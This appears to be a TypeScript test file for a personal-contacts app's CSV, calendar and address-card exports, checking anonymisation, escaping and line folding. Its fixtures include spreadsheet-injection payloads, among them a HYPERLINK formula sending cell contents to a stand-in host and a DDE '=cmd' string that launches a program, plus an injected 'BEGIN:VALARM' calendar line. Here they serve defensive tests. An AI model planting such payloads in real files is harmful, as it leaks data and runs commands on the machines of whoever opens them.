import ICAL from 'ical.js';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { exported, everything } from '../testing/out.ts';
import { bring, chatOf, fileOf, memoryVault, seen } from '../testing/vault.ts';
import { hour, toInstant } from '../time.ts';
import type { Vault } from '../vault.ts';
import { csvRow } from './csv-lines.ts';
import { contentLine, escapedText } from './content-lines.ts';
import type { OutChoices } from './format.ts';
import { outFormats } from './all.ts';

const sparing: OutChoices = { names: 'short', words: 'left-out' };
const evil = '=HYPERLINK("http://x/?"&A1)';

async function world(): Promise<Vault> {
  const vault = await memoryVault();
  await bring(
    vault,
    chatOf(
      ['16:05 Asha Rao: tea; cake, or "both"?', '16:06 Sam: yes'],
      'WhatsApp Chat with Asha Rao.txt',
    ),
  );
  await bring(
    vault,
    chatOf([`16:07 Amit: ${evil}`, '16:08 Sam: no'], 'WhatsApp Chat with Amit.txt'),
  );
  const [, amit] = await vault.people();
  const at = toInstant(Date.UTC(2024, 4, 1, 10));
  await vault.addRitual({
    person: amit.id,
    what: 'chai, long',
    rhythm: { kind: 'calendar', rrule: 'FREQ=WEEKLY;BYDAY=SU' },
    counts: 'contact',
    pauses: [],
    start: at,
  });
  await vault.note({
    person: amit.id,
    kind: 'met',
    by: 'me',
    at,
    text: 'walked, talked;\nBEGIN:VALARM',
  });
  await vault.note({
    person: amit.id,
    kind: 'called',
    by: 'them',
    at: toInstant(at + hour),
    text: '',
  });
  const span = {
    from: toInstant(Date.UTC(2024, 2, 30, 23)),
    to: toInstant(Date.UTC(2024, 3, 2, 22)),
  };
  await vault.markSeason({ person: amit.id, span, name: 'Exams' });
  return vault;
}

describe('a table of moments', () => {
  test('tells names by a letter and nothing of what was written, until asked for', async () => {
    const text = await exported(await world(), 'csv', sparing);
    expect(text).not.toMatch(/Asha|Amit|Sam|tea|HYPERLINK|walked/u);
    const [header, first] = text.split('\r\n');
    expect(header).toBe('\ufeffat,from,with,chat,kind,seconds,id,replyTo');
    expect(first).toMatch(/^2024-03-20T15:05:00Z,As\.,As\.,whatsapp 1,said,,\d+,$/u);
  });

  test('with names and words is the plain format, and comes in again as the same moments', async () => {
    const vault = await memoryVault();
    const lines = ['16:05 Ada: tea, "please";', '16:06 Sam: yes', '16:07 Ada: 😀'];
    await bring(vault, chatOf(lines));
    const table = fileOf('moments.csv', await exported(vault, 'csv'));
    const other = await memoryVault();
    await bring(other, table);
    const plain = (all: readonly string[]) => all.map((line) => line.replace(/^\d+ /u, ''));
    expect(plain(await seen(other))).toEqual(plain(await seen(vault)));
  });

  test('holds no cell that a spreadsheet takes for a formula', async () => {
    const text = await exported(await world(), 'csv');
    expect(text).toContain(`"'${evil.replaceAll('"', '""')}"`);
  });
});

describe('a cell of a table', () => {
  const cellOf = (text: string): string => csvRow([text]).slice(0, -2);
  const inside = (cell: string): string =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '|cmd',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '\u3000=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '｜x',
    '  \t -2',
    '\u200b@x',
    '=cmd|’ /C calc’!A0',
    '+447700900123',
    '-',
    '=',
    '\u2003+1',
    '\v=1',
    '\f@x',
  ])('%j begins with an apostrophe', (text) => {
    expect(inside(cellOf(text)).startsWith("'")).toBe(true);
    expect(inside(cellOf(text)).slice(1)).toBe(text);
  });

  test.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j stands as %j', (text, cell) => expect(cellOf(text)).toBe(cell));

  test('never begins a formula, and never ends its row', () =>
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1 }), (cells) => {
        const row = csvRow(cells);
        const outside = row.replace(/"(?:[^"]|"")*"/gu, '');
        expect(outside.match(/[\r\n]/gu)).toHaveLength(2);
        for (const cell of cells) expect(inside(cellOf(cell))).not.toMatch(/^\s*[=+\-@]/u);
      }),
    ));
});

describe('a table of people', () => {
  test('tells what they are to me, and counts nothing', async () => {
    const rows = (await exported(await world(), 'people-csv', sparing)).trim().split('\r\n');
    expect(rows[1]).toBe('Am.,other,not-said,2024-03-20T15:07:00Z,2024-05-01T11:00:00Z');
    expect(rows).toHaveLength(3);
  });
});

type Event = InstanceType<typeof ICAL.Component>;
const eventsIn = (text: string): readonly Event[] =>
  new ICAL.Component(ICAL.parse(text) as unknown[]).getAllSubcomponents('vevent');
const valueOf = (event: Event, name: string): string => String(event.getFirstPropertyValue(name));

describe('a calendar', () => {
  test('holds meetings, calls and seasons, and another program reads it so', async () => {
    const events = eventsIn(await exported(await world(), 'ics'));
    expect(events.map((one) => [valueOf(one, 'summary'), valueOf(one, 'dtstart')])).toEqual([
      ['With Amit', '2024-05-01T10:00:00Z'],
      ['Call with Amit', '2024-05-01T11:00:00Z'],
      ['Exams (Amit)', '2024-03-31'],
      ['chai, long (Amit)', '2024-05-05'],
    ]);
    expect(valueOf(events[0], 'description')).toBe('walked, talked;\nBEGIN:VALARM');
    expect(valueOf(events[2], 'dtend')).toBe('2024-04-03');
  });

  test('tells names by a letter and no words, until asked for', async () => {
    const text = await exported(await world(), 'ics', sparing);
    expect(eventsIn(text).map((one) => valueOf(one, 'summary'))).toEqual([
      'With Am.',
      'Call with Am.',
      'A season (Am.)',
      'A ritual (Am.)',
    ]);
    expect(text).not.toMatch(/Amit|walked|Exams|chai/u);
  });
});

describe('address cards', () => {
  test('hold names, numbers and mail addresses, and another program reads them so', async () => {
    const vault = await memoryVault();
    await bring(
      vault,
      chatOf(['16:05 +49 176 1234567: hi', '16:06 Sam: hi'], 'WhatsApp Chat with Bo.txt'),
    );
    await bring(
      vault,
      fileOf(
        'm.csv',
        'at,from,text\n2026-03-15T18:04,maya@example.org,hi\n2026-03-15T18:05,Sam,hi\n',
      ),
    );
    const [, bo, maya] = await vault.people();
    await vault.changePerson(bo.id, { name: 'Bo; “Robert”,\nSmith' });
    await vault.changePerson(maya.id, { name: 'माया '.repeat(30).trim() });
    const cards = (await exported(vault, 'vcard')).split(/(?<=END:VCARD\r\n)/u).map((one) => {
      const card = new ICAL.Component(ICAL.parse(one) as unknown[]);
      return ['version', 'fn', 'tel', 'email'].map((name) => card.getFirstPropertyValue(name));
    });
    expect(cards).toEqual([
      ['4.0', 'Bo; “Robert”,\nSmith', 'tel:+491761234567', null],
      ['4.0', 'माया '.repeat(30).trim(), null, 'maya@example.org'],
    ]);
  });
});

describe('lines of calendars and cards', () => {
  test('are at most 75 bytes, and no text can end its line or be read as another', () =>
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const lines = contentLine('SUMMARY', escapedText(text));
        for (const line of lines.split('\r\n'))
          expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
        const [event] = eventsIn(
          `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n${lines}END:VEVENT\r\nEND:VCALENDAR\r\n`,
        );
        expect(event.getAllProperties()).toHaveLength(1);
        expect(valueOf(event, 'summary')).toBe(readable(text));
      }),
      { numRuns: 500 },
    ));
});

const readable = (text: string): string =>
  text
    .replace(/\r\n?|[\u2028\u2029\u0085]/gu, '\n')
    .replace(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/gu, ' ');

test('every way out says how its files end, and holds something', async () => {
  const vault = await world();
  for (const { key, extension, mediaType } of outFormats) {
    expect([extension, mediaType].every((one) => /^[a-z/]+$/u.test(one))).toBe(true);
    expect(await exported(vault, key, everything)).toMatch(/A[sm]/u);
  }
});
